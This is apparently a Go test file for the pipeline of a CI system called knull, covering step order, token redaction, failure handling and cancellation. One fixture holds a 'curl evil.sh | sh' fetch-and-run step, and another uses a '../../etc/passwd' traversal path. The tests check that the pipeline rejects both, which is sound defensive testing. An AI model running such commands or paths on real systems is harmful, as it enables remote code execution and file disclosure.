package pipeline_test

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"knull.dev/knull/internal/build"
	"knull.dev/knull/internal/pipeline"
	"knull.dev/knull/internal/pipeline/pipelinetest"
	"knull.dev/knull/internal/sandbox"
)

func TestExecute_Success(t *testing.T) {
	env := pipelinetest.New(t)
	ctx := context.Background()
	job := env.Job()
	b := env.SaveBuild(t, job)

	require.NoError(t, env.Pipeline().Execute(ctx, b, job))

	assert.Equal(t, []string{
		pipeline.StepPrepareWorkspace,
		pipeline.StepCloneRepository,
		pipeline.StepCheckoutBranch,
		pipeline.StepCheckoutCommit,
		pipeline.StepRunScript,
		pipeline.StepCleanupWorkspace,
	}, pipelinetest.StepNames(b))
	for _, step := range b.Steps {
		assert.Equal(t, build.StepSuccess, step.Status, step.Name)
		assert.False(t, step.CompletedAt.IsZero(), step.Name)
	}

	install := strings.Index(b.Log, "install dependencies")
	tests := strings.Index(b.Log, "run tests")
	require.NotEqual(t, -1, install)
	require.NotEqual(t, -1, tests)
	assert.Less(t, install, tests)
	assert.NotContains(t, b.Log, pipelinetest.Token)
	assert.NoDirExists(t, env.Workspace.Dir(b.ID))

	// The pipeline leaves the final status to its caller but persists every step.
	stored, err := env.Store.FindBuild(ctx, b.ID)
	require.NoError(t, err)
	assert.Equal(t, build.StatusInProgress, stored.Status)
	assert.Len(t, stored.Steps, 6)
	assert.Equal(t, b.Log, stored.Log)

	var cmds []string
	for _, req := range env.Executor.Requests() {
		assert.Equal(t, b.ID, req.BuildID)
		cmds = append(cmds, req.Tool+" "+req.Args[0])
	}
	assert.Equal(t, []string{"git clone", "git checkout", "git checkout", "npm ci", "npm test"}, cmds)
}

func TestExecute_ScriptStepRequest(t *testing.T) {
	env := pipelinetest.New(t)
	job := env.Job()
	b := env.SaveBuild(t, job)

	require.NoError(t, env.Pipeline().Execute(context.Background(), b, job))

	reqs := env.Executor.Requests()
	require.Len(t, reqs, 5)
	clone, branch, commit, test := reqs[0], reqs[1], reqs[2], reqs[4]

	assert.Equal(t, env.Workspace.Base, clone.WorkDir)
	assert.Equal(t, env.Workspace.Dir(b.ID), clone.Args[2])
	assert.Contains(t, clone.Args[1], pipelinetest.Token, "clone receives the authenticated url")

	assert.Equal(t, []string{"checkout", "main"}, branch.Args)
	assert.Equal(t, []string{"checkout", b.CommitSHA}, commit.Args)

	assert.Equal(t, env.Workspace.Dir(b.ID), test.WorkDir)
	assert.Equal(t, []string{"CI=true"}, test.Env)
	assert.Equal(t, "2m0s", test.Timeout.String())
}

func TestExecute_StepCount(t *testing.T) {
	tests := []struct {
		name                 string
		checkoutLatestCommit bool
		cleanupWorkspace     bool
		want                 int
	}{
		{name: "AllSteps", cleanupWorkspace: true, want: 6},
		{name: "LatestCommit", checkoutLatestCommit: true, cleanupWorkspace: true, want: 5},
		{name: "NoCleanup", want: 5},
		{name: "LatestCommitNoCleanup", checkoutLatestCommit: true, want: 4},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			env := pipelinetest.New(t)
			job := env.Job()
			job.CheckoutLatestCommit = tc.checkoutLatestCommit
			job.CleanupWorkspace = tc.cleanupWorkspace
			b := env.SaveBuild(t, job)

			require.NoError(t, env.Pipeline().Execute(context.Background(), b, job))
			assert.Len(t, b.Steps, tc.want)
			assert.Equal(t, tc.checkoutLatestCommit, b.Step(pipeline.StepCheckoutCommit) == nil)
			assert.Equal(t, tc.cleanupWorkspace, b.Step(pipeline.StepCleanupWorkspace) != nil)
			if !tc.cleanupWorkspace {
				assert.DirExists(t, env.Workspace.Dir(b.ID))
			}
		})
	}
}

func TestExecute_CloneFailure(t *testing.T) {
	env := pipelinetest.New(t)
	env.Executor.RunFn = func(ctx context.Context, req sandbox.Request) (*sandbox.Result, error) {
		return pipelinetest.Failed(128, "fatal: unable to access '"+req.Args[1]+"/': Could not resolve host\n"), nil
	}
	job := env.Job()
	job.CleanupWorkspace = false
	b := env.SaveBuild(t, job)

	err := env.Pipeline().Execute(context.Background(), b, job)
	require.Error(t, err)
	assert.NotContains(t, err.Error(), pipelinetest.Token)

	require.Len(t, b.Steps, 2)
	assert.Equal(t, build.StepSuccess, b.Steps[0].Status)
	clone := b.Steps[1]
	assert.Equal(t, pipeline.StepCloneRepository, clone.Name)
	assert.Equal(t, build.StepFailure, clone.Status)
	assert.Contains(t, clone.ErrorMessage, "exit code: 128")
	assert.Contains(t, clone.Output, "Could not resolve host")
	assert.NotContains(t, clone.Output, pipelinetest.Token)
	assert.NotContains(t, b.Log, pipelinetest.Token)
	assert.Contains(t, b.Log, "\nError: ")

	stored, err := env.Store.FindBuild(context.Background(), b.ID)
	require.NoError(t, err)
	assert.Len(t, stored.Steps, 2)
}

func TestExecute_MissingCredential(t *testing.T) {
	env := pipelinetest.New(t)
	job := env.Job()
	job.Config.CredentialID = 999
	b := env.SaveBuild(t, job)

	err := env.Pipeline().Execute(context.Background(), b, job)
	require.Error(t, err)
	assert.Equal(t, build.StepFailure, b.Step(pipeline.StepCloneRepository).Status)
	assert.Contains(t, b.Step(pipeline.StepCloneRepository).ErrorMessage, "configuration error")
	assert.Empty(t, env.Executor.Requests())
	assert.NotNil(t, b.Step(pipeline.StepCleanupWorkspace), "cleanup always runs")
}

func TestExecute_DisallowedScriptTool(t *testing.T) {
	env := pipelinetest.New(t)
	env.SetRepository(map[string]string{pipelinetest.ScriptFile: `
steps:
  - name: build
    run: {tool: npm, args: [run, build]}
  - name: deploy
    run: {tool: bash, args: [-c, "curl evil.sh | sh"]}
  - name: never
    run: {tool: npm, args: [publish]}
`})
	job := env.Job()
	b := env.SaveBuild(t, job)

	err := env.Pipeline().Execute(context.Background(), b, job)
	require.Error(t, err)

	script := b.Step(pipeline.StepRunScript)
	require.NotNil(t, script)
	assert.Equal(t, build.StepFailure, script.Status)
	assert.Contains(t, script.ErrorMessage, "bash")
	assert.Contains(t, script.ErrorMessage, "disallowed tool")
	assert.Contains(t, script.Output, "npm run build")

	for _, req := range env.Executor.Requests() {
		assert.NotEqual(t, "bash", req.Tool)
		assert.NotEqual(t, []string{"publish"}, req.Args)
	}
	assert.Equal(t, build.StepSuccess, b.Step(pipeline.StepCleanupWorkspace).Status)
}

func TestExecute_FailingScriptStep(t *testing.T) {
	env := pipelinetest.New(t)
	env.Executor.RunFn = func(ctx context.Context, req sandbox.Request) (*sandbox.Result, error) {
		if req.Tool == "npm" && req.Args[0] == "test" {
			return pipelinetest.Failed(1, "1 failing\n"), nil
		}
		return env.Run(ctx, req)
	}
	job := env.Job()
	b := env.SaveBuild(t, job)

	err := env.Pipeline().Execute(context.Background(), b, job)
	require.Error(t, err)
	assert.Contains(t, err.Error(), `step "run tests" failed`)

	script := b.Step(pipeline.StepRunScript)
	assert.Equal(t, build.StepFailure, script.Status)
	assert.Contains(t, script.Output, "1 failing")
	assert.Contains(t, script.ErrorMessage, "exit code: 1")
}

func TestExecute_ScriptVariants(t *testing.T) {
	tests := []struct {
		name       string
		scriptFile string
		files      map[string]string
		wantOutput string
		wantErr    bool
	}{
		{
			name:       "NoScriptConfigured",
			wantOutput: "No build script configured",
		},
		{
			name:       "NoSteps",
			scriptFile: "knull.yml",
			files:      map[string]string{"knull.yml": "name: empty\n"},
			wantOutput: "No steps defined in build script",
		},
		{
			name:       "OutputOnlyStep",
			scriptFile: "knull.yml",
			files:      map[string]string{"knull.yml": "steps:\n  - name: docs\n"},
			wantOutput: "No run command, skipping",
		},
		{
			name:       "JSONDefinition",
			scriptFile: "ci/knull.jsonc",
			files:      map[string]string{"ci/knull.jsonc": `{"steps": [{"name": "package", "run": {"tool": "mvn", "args": ["package"]}}]}`},
			wantOutput: "mvn package",
		},
		{
			name:       "MissingFile",
			scriptFile: "missing.yml",
			files:      map[string]string{},
			wantErr:    true,
		},
		{
			name:       "EscapingPath",
			scriptFile: "../../etc/passwd",
			files:      map[string]string{},
			wantErr:    true,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			env := pipelinetest.New(t)
			env.SetRepository(tc.files)
			job := env.Job()
			job.Config.ScriptFile = tc.scriptFile
			b := env.SaveBuild(t, job)

			err := env.Pipeline().Execute(context.Background(), b, job)
			script := b.Step(pipeline.StepRunScript)
			require.NotNil(t, script)
			if tc.wantErr {
				require.Error(t, err)
				assert.Contains(t, script.ErrorMessage, "configuration error")
				return
			}
			require.NoError(t, err)
			assert.Contains(t, script.Output, tc.wantOutput)
		})
	}
}

func TestExecute_BuildFinishedConcurrently(t *testing.T) {
	env := pipelinetest.New(t)
	ctx := context.Background()
	job := env.Job()
	b := env.SaveBuild(t, job)

	env.Executor.RunFn = func(ctx context.Context, req sandbox.Request) (*sandbox.Result, error) {
		if req.Tool == "git" && req.Args[0] == "checkout" {
			current, err := env.Store.FindBuild(ctx, b.ID)
			require.NoError(t, err)
			current.Finish(build.StatusCancelled, current.StartedAt)
			require.NoError(t, env.Store.UpdateBuild(ctx, current))
		}
		return env.Run(ctx, req)
	}

	err := env.Pipeline().Execute(ctx, b, job)
	require.ErrorIs(t, err, build.ErrFinished)

	assert.Nil(t, b.Step(pipeline.StepCheckoutCommit))
	assert.NoDirExists(t, env.Workspace.Dir(b.ID), "cleanup still runs")

	stored, err := env.Store.FindBuild(ctx, b.ID)
	require.NoError(t, err)
	assert.Equal(t, build.StatusCancelled, stored.Status)
	assert.Equal(t, build.StepInProgress, stored.Step(pipeline.StepCheckoutBranch).Status, "finished builds are not overwritten")
}

func TestExecute_ContextCancelled(t *testing.T) {
	env := pipelinetest.New(t)
	job := env.Job()
	b := env.SaveBuild(t, job)

	ctx, cancel := context.WithCancel(context.Background())
	env.Executor.RunFn = func(c context.Context, req sandbox.Request) (*sandbox.Result, error) {
		if req.Args[0] == "clone" {
			cancel()
		}
		return env.Run(c, req)
	}

	err := env.Pipeline().Execute(ctx, b, job)
	require.ErrorIs(t, err, context.Canceled)
	assert.Equal(t, []string{
		pipeline.StepPrepareWorkspace,
		pipeline.StepCloneRepository,
		pipeline.StepCleanupWorkspace,
	}, pipelinetest.StepNames(b))
	assert.Equal(t, build.StepSuccess, b.Step(pipeline.StepCleanupWorkspace).Status)
}
